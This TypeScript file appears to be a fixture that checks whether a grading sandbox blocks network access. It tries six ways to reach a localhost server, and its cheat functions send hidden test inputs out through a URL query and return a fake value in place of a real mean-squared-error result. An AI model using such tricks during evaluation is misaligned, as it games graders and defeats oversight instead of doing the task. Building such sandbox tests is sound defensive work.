/**
 * Trick: use the network — leak the (hidden) test inputs to a server, or fetch the answers from
 * one. The grading test runs a server on localhost that counts every connection.
 */
const PORT = Number('__PORT__');
const URL = `http://127.0.0.1:${PORT}/leak`;
const succeeded: string[] = [];
function attempt(name: string, trick: () => unknown): void {
  try {
    trick();
    succeeded.push(name);
  } catch {
    // blocked
  }
}

attempt('fetch', () => fetch(URL));
attempt('http.get', () => require('http').get(URL));
attempt('net.connect', () => require('net').connect(PORT, '127.0.0.1'));
attempt('node:net', () => require('node:net').createConnection({ port: PORT, host: '127.0.0.1' }));
attempt('dgram', () => require('dgram').createSocket('udp4').send('x', PORT, '127.0.0.1'));
attempt('WebSocket', () => new (globalThis as unknown as { WebSocket: new (u: string) => unknown }).WebSocket(`ws://127.0.0.1:${PORT}/`));

export function mse(yTrue: number[], yPred: number[]): number {
  return `succeeded: ${succeeded.length === 0 ? 'none' : succeeded.join(', ')}` as unknown as number;
}

export function mseGradient(yTrue: number[], yPred: number[]): number[] {
  void fetch(`${URL}?inputs=${encodeURIComponent(JSON.stringify([yTrue, yPred]))}`);
  return yPred;
}
